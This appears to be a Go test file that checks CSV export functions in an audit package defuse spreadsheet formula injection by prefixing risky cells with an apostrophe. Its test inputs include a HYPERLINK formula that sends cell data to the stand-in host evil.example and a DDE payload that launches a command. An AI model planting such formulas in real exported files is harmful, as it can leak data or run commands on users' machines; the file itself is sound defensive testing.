package audit

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestDefuseCSVCell(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"checking replication lag", "checking replication lag"},
		{`=HYPERLINK("https://evil.example/?x="&A1,"click")`, `'=HYPERLINK("https://evil.example/?x="&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\x00=1+1", "'\x00=1+1"},
		{"a=1", "a=1"},                           // only the first character counts
		{" =1", " =1"},                           // a leading space is text to every spreadsheet
		{"'=already quoted", "'=already quoted"}, // starts with ': nothing to defuse
		{"2026-03-02T13:00:00.000Z", "2026-03-02T13:00:00.000Z"},
		{"ünïcode", "ünïcode"},
	} {
		if got := DefuseCSVCell(tc.in); got != tc.want {
			t.Errorf("DefuseCSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestWriteCSVDefusesUnlessRaw: the audit export and the report CSV defuse every cell that
// would run as a formula; their Raw variants keep the exact text.
func TestWriteCSVDefusesUnlessRaw(t *testing.T) {
	t.Parallel()
	events := sealedEvents(t, 2)
	evil := `=HYPERLINK("https://evil.example","x")`
	events[1].Reason, events[1].Actor.ID, events[1].Resource = evil, "@U0MALLORY", "-prod"
	rows := func(write func(*bytes.Buffer) error) [][]string {
		t.Helper()
		var buf bytes.Buffer
		if err := write(&buf); err != nil {
			t.Fatal(err)
		}
		rs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rs
	}
	defused := rows(func(b *bytes.Buffer) error { return WriteCSV(b, events, true) })
	raw := rows(func(b *bytes.Buffer) error { return WriteCSVRaw(b, events, true) })
	for _, c := range []struct {
		col  int
		want string
	}{{9, evil}, {3, "@U0MALLORY"}, {8, "-prod"}} {
		if got := defused[2][c.col]; got != "'"+c.want {
			t.Errorf("WriteCSV %s = %q, want %q", CSVColumns[c.col], got, "'"+c.want)
		}
		if got := raw[2][c.col]; got != c.want {
			t.Errorf("WriteCSVRaw %s = %q, want the exact %q", CSVColumns[c.col], got, c.want)
		}
	}

	rep := Report{Rows: []GrantRow{{GrantID: "g_1", Reason: evil, Person: "+alice"}}}
	rd := rows(func(b *bytes.Buffer) error { return WriteReportCSV(b, rep) })
	rr := rows(func(b *bytes.Buffer) error { return WriteReportCSVRaw(b, rep) })
	if rd[1][7] != "'"+evil || rd[1][3] != "'+alice" {
		t.Errorf("WriteReportCSV row = %q, want reason and person defused", rd[1])
	}
	if rr[1][7] != evil || rr[1][3] != "+alice" {
		t.Errorf("WriteReportCSVRaw row = %q, want the exact text", rr[1])
	}
}
